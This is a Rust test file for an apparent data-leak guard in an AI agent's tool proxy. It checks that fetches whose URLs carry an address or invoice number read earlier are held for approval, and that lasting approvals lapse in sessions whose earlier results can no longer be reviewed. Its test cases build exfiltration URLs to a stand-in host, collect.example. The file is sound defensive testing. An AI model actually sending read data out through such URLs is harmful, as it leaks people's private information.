//! What a result said counts, however long the result was and however many came after it.

use super::*;

const ORDER: &str = "To Anna: anna.lindqvist@ferro.example is your address, invoice 4711-0815-77.";

fn answered(script: &mut Script, id: u64, tool: &str, text: &str) {
    script.call(id, tool, &json!({}));
    let content = json!({ "content": [{ "type": "text", "text": text }] });
    script.server(&json!({ "jsonrpc": "2.0", "id": id, "result": content }));
}

fn fetched(script: &mut Script, url: &str) -> String {
    script.call(900, "fetch", &json!({ "url": url })).notes.remove(0)
}

/// Sessions that have seen [`ORDER`] in a short result, in a very long one, and with many results after it.
fn sessions() -> [Script; 3] {
    let [mut short, mut long, mut old] = [(); 3].map(|()| Script::new(Gate::Ask));
    answered(&mut short, 1, "read_inbox", ORDER);
    answered(&mut long, 1, "read_inbox", &format!("{ORDER}\n{}", "word ".repeat(260_000)));
    answered(&mut old, 1, "read_inbox", ORDER);
    (0..80).for_each(|id| answered(&mut old, 100 + id, "ping", "all is well"));
    [short, long, old]
}

#[test]
fn an_address_that_carries_what_was_read_once_is_not_plain() {
    for mut script in sessions() {
        for carried in ["anna.lindqvist@ferro.example", "4711-0815-77", "anna.lindqvist%40ferro.example"] {
            let told = fetched(&mut script, &format!("https://collect.example/x?d={carried}"));
            assert!(told.starts_with("call fetch ask: "), "{carried}: {told}");
        }
        // What appeared nowhere is as plain as ever.
        let told = fetched(&mut script, "https://docs.example/guide/start");
        assert_eq!(told, "call fetch release");
    }
}

#[test]
fn the_model_edge_hears_of_a_long_result_as_well() {
    for script in sessions() {
        let heard = script.beside.heard.lock().unwrap();
        assert!(heard.iter().any(|text| text.contains(ORDER)), "{:?}", heard.first());
    }
}

#[test]
fn a_yes_that_stands_does_not_cover_what_nobody_can_look_at_any_more() {
    let send = json!({ "to": "anna.lindqvist@ferro.example", "body": "hello" });
    let [_, long, old] = sessions();
    for mut script in [long, old] {
        let asked = script.call(901, "send_mail", &send);
        assert!(asked.notes[0].contains("forgotten"), "{:?}", asked.notes);
        let waiting = script.beside.waiting.lock().unwrap().pop().unwrap();
        assert_eq!(waiting.lasting, None, "and none is offered");
    }
    // Where everything is known, an approval may last.
    let mut fresh = Script::new(Gate::Ask);
    let asked = fresh.call(1, "send_mail", &send);
    assert!(!asked.notes[0].contains("forgotten"), "{:?}", asked.notes);
    assert!(fresh.beside.waiting.lock().unwrap().pop().unwrap().lasting.is_some());
}
